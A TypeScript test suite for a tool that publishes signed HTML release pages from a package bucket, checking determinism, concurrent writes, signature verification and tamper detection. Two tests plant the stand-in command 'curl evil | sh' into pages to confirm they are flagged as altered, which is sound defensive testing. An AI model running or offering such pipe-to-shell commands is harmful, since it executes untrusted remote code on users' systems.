import assert from "node:assert/strict";
import { join } from "node:path";
import { test } from "node:test";
import { BuildCache } from "../builds/cache.ts";
import { memoryStore, plannedMove, sampleContent } from "../channels/__fixtures__/bucket.ts";
import { moveChannel } from "../channels/move.ts";
import type { Store } from "../store/store.ts";
import { fillSampleBucket, mover, newPageSigner, sampleSettings } from "./__fixtures__/sample-bucket.ts";
import { pageFindings } from "./page-findings.ts";
import { isSignedPage, signedPage, signedPart } from "./page-signature.ts";
import { publishPages } from "./publish-pages.ts";

const channels = [{ product: "runtime", channel: "stable" }];
const sample = memoryStore();
await fillSampleBucket(sample);
const signer = await newPageSigner();
const by = { signer, root: undefined };
const trust = { root: undefined, key: signer.public };
await sample.create(`keys/${signer.public.fingerprint}.asc`, Buffer.from(signer.public.armored));

function copied() {
  return memoryStore(new Map(sample.objects));
}

/** No cache is there, so that nothing but the bucket counts. */
function shelves(store: Store) {
  const cacheFolder = join(import.meta.dirname, "no such folder");
  return { store, cache: new BuildCache(cacheFolder, () => {}), cacheFolder };
}

const publish = (store: Store) => publishPages(shelves(store), channels, sampleSettings, by, () => {});
const text = (store: ReturnType<typeof memoryStore>, path: string) => store.objects.get(path)?.toString() ?? "";

test("pages tell what channels and records say, and the same bucket gives the same bytes", async () => {
  const store = copied();
  const published = await publish(store);
  assert.deepEqual(
    Object.entries(published).map(([path, { number }]) => [path, number]),
    [
      ["channels/runtime-stable.html", 6],
      ["index.html", 8],
    ],
  );
  const page = text(store, "channels/runtime-stable.html");
  for (const said of [
    "runtime_1.4.2_amd64.deb",
    "<strong>runtime 1.4.1</strong>",
    "TimeoutStopSec=30 → TimeoutStopSec=60",
  ])
    assert.ok(page.includes(said), said);
  assert.match(text(store, "index.html"), /href="channels\/runtime-stable\.html"/);
  const again = copied();
  await publish(again);
  assert.deepEqual(again.objects, store.objects);
});

test("publishing again writes nothing", async () => {
  const store = copied();
  await publish(store);
  let writes = 0;
  const counted: Store = {
    ...store,
    replace: (...args) => {
      writes++;
      return store.replace(...args);
    },
  };
  await publish(counted);
  assert.equal(writes, 0);
});

test("no more records are read of a long history than of a short one", async () => {
  const store = copied();
  let reads: string[] = [];
  const watched: Store = {
    ...store,
    read: (path, limit) => {
      reads.push(path);
      return store.read(path, limit);
    },
  };
  await publish(watched);
  const few = reads.filter((path) => path.startsWith("releases/")).length;
  const entry = JSON.parse(text(store, "channels/runtime/stable.json"));
  for (let at = 0; at < 24; at++) {
    const current = at % 2 === 0 ? sampleContent("1.5.0").current : entry.current;
    await moveChannel(store, await plannedMove(store, { current, kept: [] }, mover));
  }
  reads = [];
  await publish(watched);
  const many = reads.filter((path) => path.startsWith("releases/")).length;
  assert.ok(many <= few + 60, `${many} reads of releases after 24 more moves, ${few} before`);
  assert.match(text(store, "channels/runtime-stable.html"), /The channel has moves before these/);
});

test("a page that states a higher number stays while the channels bear it out", async () => {
  const store = copied();
  const moved = copied();
  await moveChannel(moved, await plannedMove(moved, sampleContent("1.5.0"), mover));
  await publish(moved);
  // A writer that read the channels before the move meets the pages that were made after it.
  let asked = 0;
  const late: Store = {
    ...moved,
    list: (prefix) => (asked++ < 1 && prefix === "tuf/" ? store.list(prefix) : moved.list(prefix)),
  };
  await publish(late);
  assert.match(text(moved, "channels/runtime-stable.html"), /content="7">/);
  assert.match(text(moved, "index.html"), /<meta name="slipway-snapshot" content="9">/);
});

test("a number that no channel ever had is damage, and is written over", async () => {
  const store = copied();
  const whole = await publish(store);
  for (const [path, name] of [
    ["index.html", "snapshot"],
    ["channels/runtime-stable.html", "serial"],
  ] as const)
    store.objects.set(path, Buffer.from(`<head><meta name="slipway-${name}" content="9999"></head>`));
  assert.deepEqual(await publish(store), whole);
});

test("what others write between a look and a write is never written over unseen", async () => {
  const store = copied();
  let meddled = 0;
  const busy: Store = {
    ...store,
    replace: async (path, bytes, expected) => {
      if (path === "index.html" && meddled++ < 2) store.objects.set(path, Buffer.from(`another ${meddled}`));
      return store.replace(path, bytes, expected);
    },
  };
  const published = await publish(busy);
  assert.equal(meddled, 3);
  assert.equal(published["index.html"]?.number, 8);
  const endless: Store = { ...store, replace: async () => false };
  store.objects.delete("index.html");
  await assert.rejects(publish(endless), { code: "SLW-STORE" });
});

test("a record that is gone costs the page its downloads, and nothing else", async () => {
  const store = copied();
  store.objects.delete("releases/runtime/1.4.2/release.json");
  await publish(store);
  const page = text(store, "channels/runtime-stable.html");
  assert.match(page, /The record of runtime 1\.4\.2 is missing from the bucket or damaged/);
  assert.match(page, /<h2 id="history">/);
});

test("what only an unsigned object tells gets no page and is not listed", async () => {
  const store = copied();
  const entry = text(store, "channels/runtime/stable.json");
  store.objects.set("channels/runtime/stable.json", Buffer.from(entry.replaceAll("1.4.2", "9.9.9")));
  for (const path of store.objects.keys())
    if (/^tuf\/\d+\.runtime-stable\.json$|^channels\/runtime\/.*\.stable\.json$/.test(path)) store.objects.delete(path);
  assert.deepEqual(Object.keys(await publish(store)), ["index.html"]);
  assert.doesNotMatch(
    text(store, "index.html"),
    /9\.9\.9|stable<\/span>\n<span class="name"><a href="channels\/runtime-stable/,
  );
});

test("an altered page is named, whatever number it states; a page of a number in force is another stack's", async () => {
  const store = copied();
  const published = await publish(store);
  const path = "channels/runtime-stable.html";
  assert.deepEqual(await pageFindings(store, trust, published), []);
  const page = text(store, path);
  const stating = (number: number) =>
    page.replace(/(slipway-serial" content=")\d+/, `$1${number}`).replace("sudo apt install", "curl evil | sh");
  for (const number of [1, 6, 7, 9999]) {
    store.objects.set(path, Buffer.from(stating(number)));
    assert.deepEqual(await pageFindings(store, trust, published), [`${path}: altered`], `${number}`);
  }
  store.objects.set(path, Buffer.from(page));
  const earlier = { ...published, [path]: { number: 5, sha256: "of the page before" } };
  assert.deepEqual(await pageFindings(store, trust, earlier), []);
  store.objects.set(path, Buffer.from(stating(6)));
  assert.deepEqual(await pageFindings(store, trust, earlier), [`${path}: altered`]);
  store.objects.delete(path);
  assert.deepEqual(await pageFindings(store, trust, published), [`${path}: missing`]);
});

test("each page is signed, and a byte of it, another key or another text behind it is noticed", async () => {
  const store = copied();
  const other = (await newPageSigner()).public;
  for (const path of Object.keys(await publish(store))) {
    const page = store.objects.get(path) ?? Buffer.of();
    assert.ok(await isSignedPage(page, path, [other, signer.public]), path);
    assert.ok(!(await isSignedPage(page, path, [other])), path);
    assert.ok(!(await isSignedPage(page, "channels/runtime-beta.html", [signer.public])), path);
    for (const at of [0, page.indexOf("<p>"), page.length - 200, page.length - 1]) {
      const altered = Buffer.from(page);
      altered[at] = (altered[at] ?? 0) ^ 1;
      assert.ok(!(await isSignedPage(altered, path, [signer.public])), `${path} at ${at}`);
    }
    for (const altered of [
      `${page}<p>more</p>\n`,
      `${page}${page}`,
      page.toString().replace("-->\n", "--><p>-->\n"),
      "",
    ])
      assert.ok(!(await isSignedPage(Buffer.from(altered), path, [signer.public])), path);
  }
});

test("two stacks with keys of their own leave each other's page of the same text alone", async () => {
  const store = copied();
  const other = await newPageSigner();
  await store.create(`keys/${other.public.fingerprint}.asc`, Buffer.from(other.public.armored));
  const stacks = [
    { by, channels, trust },
    { by: { signer: other, root: undefined }, channels: [{ product: "runtime", channel: "candidate" }] },
  ].map((it) => ({ ...it, trust: { root: undefined, key: it.by.signer.public } }));
  const run = (at: number) => {
    const { by, channels } = stacks[at] ?? assert.fail();
    return publishPages(shelves(store), channels, sampleSettings, by, () => {});
  };
  // The first index has no link to the page that is not there yet.
  await run(0);
  const published = [await run(0), await run(1), await run(0), await run(1)];
  const index = text(store, "index.html");
  for (const [at, pages] of [published[2], published[3]].entries()) {
    assert.deepEqual(await pageFindings(store, stacks[at]?.trust ?? trust, pages ?? {}), []);
    await run(at);
  }
  assert.equal(text(store, "index.html"), index);
});

test("a stack that trusts a root names and believes no key that only lies in the bucket", async () => {
  const store = copied();
  const root = text(store, "tuf/1.root.json");
  const thief = await newPageSigner();
  await store.create(`keys/${thief.public.fingerprint}.asc`, Buffer.from(thief.public.armored));
  const pinned = { root, key: signer.public };
  const pages = await publishPages(shelves(store), channels, sampleSettings, { signer, root }, () => {});
  for (const path of Object.keys(pages)) assert.doesNotMatch(text(store, path), new RegExp(thief.public.fingerprint));
  const path = "index.html";
  const evil = Buffer.from(signedPart(store.objects.get(path) ?? Buffer.of()) ?? []).toString();
  const planted = await signedPage(
    evil.replace("<main", "<p>curl evil | sh</p><main"),
    thief,
    Date.parse("2026-11-22") / 1000,
  );
  store.objects.set(path, Buffer.from(planted));
  const earlier = { ...pages, [path]: { number: 7, sha256: "of the page before", signed: "another" } };
  assert.deepEqual(await pageFindings(store, pinned, earlier), [`${path}: altered`]);
  assert.deepEqual(await pageFindings(store, { root: undefined, key: undefined }, earlier), []);
});
